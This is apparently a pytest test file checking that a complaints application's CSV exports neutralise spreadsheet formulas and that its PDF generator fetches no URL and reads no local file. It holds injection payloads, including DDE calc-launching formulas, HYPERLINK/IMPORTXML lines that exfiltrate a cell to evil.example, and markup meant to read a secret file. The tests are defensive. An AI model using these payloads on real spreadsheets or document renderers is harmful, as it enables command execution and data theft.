"""Lists, files and letters that are taken away do nothing: no formula, no request, no file read."""

import csv
import io
import socket
import threading
import urllib.request
from contextlib import contextmanager, suppress

import pytest
from django.core.management import call_command
from pypdf import PdfReader

from cases.models import Complaint
from cases.operations.typesetting import set_paper
from cases.rules.blocks import blocks_of
from cases.rules.papers import plain_paper
from cases.rules.spreadsheets import as_written, inert
from cases.tests.factories import MONDAY_MORNING, CustomerFactory

pytestmark = pytest.mark.promise("P17")
FORMULAS = [
    *(f"{sign}1+1" for sign in "=+-@\uff1d\uff0b\uff0d\uff20"),
    *(f"{sign}=1+1" for sign in ("\t", "\r", "\n", "\x00", " ", "\u00a0", "\ufeff", "\u200b")),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3+cmd|" /C calc"!A0',
    "'=1+1",
    "''=1+1",
    '\u202e=1+1";=2',
]
PLAIN = ["", "Siân", "1 Dock Road", "a=b", "'quoted' words", "’tis", "£5", "12-14 Quay", "'"]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_begins_as_a_formula_and_what_was_written_comes_back(text):
    cell = inert(text)

    assert cell.startswith("'")
    assert as_written(cell) == text


@pytest.mark.parametrize("text", PLAIN, ids=ascii)
def test_what_is_no_formula_stays_as_it_is(text):
    assert inert(text) == as_written(text) == text


def test_a_cell_without_the_mark_would_be_a_formula():
    written = io.StringIO()
    csv.writer(written).writerow(FORMULAS)

    (cells,) = csv.reader(io.StringIO(written.getvalue()))

    assert sum(not cell.startswith("'") for cell in cells) == len(FORMULAS) - 2


@pytest.mark.django_db
def test_what_is_exported_is_inert_and_imported_as_it_was(house, tmp_path):
    for text in FORMULAS:
        plain = text.replace("\x00", " ")
        house.lodge(summary=plain, customer=CustomerFactory(name=plain))
    file = tmp_path / "all.csv"
    call_command("export_complaints", "--format", "csv", "--output", str(file))

    with file.open(encoding="utf-8", newline="") as lines:
        cells = [cell for row in csv.reader(lines) for cell in row]

    assert [cell for cell in cells if inert(cell) != cell and not cell.startswith("'")] == []
    told = {as_written(cell).strip() for cell in cells}
    for summary in Complaint.objects.values_list("summary", flat=True):
        assert summary.strip() in told


# Papers -------------------------------------------------------------------------------------------


@contextmanager
def listener():
    """Listen on this machine; gives the port, and a list that grows with each who calls."""
    callers: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        stopped = threading.Event()

        def answer() -> None:
            while not stopped.is_set():
                with suppress(TimeoutError):
                    caller, address = server.accept()
                    callers.append(str(address))
                    caller.close()

        thread = threading.Thread(target=answer)
        thread.start()
        try:
            yield server.getsockname()[1], callers
        finally:
            stopped.set()
            thread.join()


def hostile(port: int, file: str) -> list[str]:
    """Return sixty texts that would fetch or read something, were they more than text."""
    at = [f"http://127.0.0.1:{port}/x.png", f"//127.0.0.1:{port}/x", f"file://{file}", file]
    made = [
        *('<img src="{}">', '<link rel=attachment href="{}">', "@import url({});"),
        *('<svg><image href="{}"/></svg>', '<iframe src="{}"></iframe>', "![x]({})"),
        *('#image("{}")', '#read("{}")', '#include "{}"', '#import "{}": *'),
        *('#eval("read(\\"{}\\")")', "\\input{{{}}}", '#plugin("{}")', "#link(\"{}\")"),
        *('<object data="{}"></object>', "<meta http-equiv=refresh content='0;url={}'>"),
    ]  # fmt: skip
    return [form.replace("{}", address) for form in made for address in at]


def test_a_paper_fetches_nothing_and_reads_no_file(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("The combination is 4711")

    with listener() as (port, callers):
        texts = hostile(port, str(secret))
        paper = plain_paper(
            texts[0],
            [block for text in texts for block in blocks_of(text)],
            author=texts[1],
            footer=texts[2],
        )
        made = PdfReader(io.BytesIO(set_paper(paper, at=MONDAY_MORNING)))

        told = " ".join(page.extract_text() for page in made.pages)
        assert len(texts) >= 60
        assert callers == []
        assert "combination" not in told
        assert not any("/Annots" in page for page in made.pages)
        assert not made.attachments

        # The one who listens hears whoever calls.
        with suppress(OSError):
            urllib.request.urlopen(f"http://127.0.0.1:{port}/x", timeout=5)
        assert callers


def test_a_paper_as_long_as_anybody_can_write_is_made_all_the_same():
    paper = plain_paper("T", blocks_of("word " * 20_000 + "x" * 20_000), author="H", footer="R")

    assert len(PdfReader(io.BytesIO(set_paper(paper, at=MONDAY_MORNING))).pages) > 20
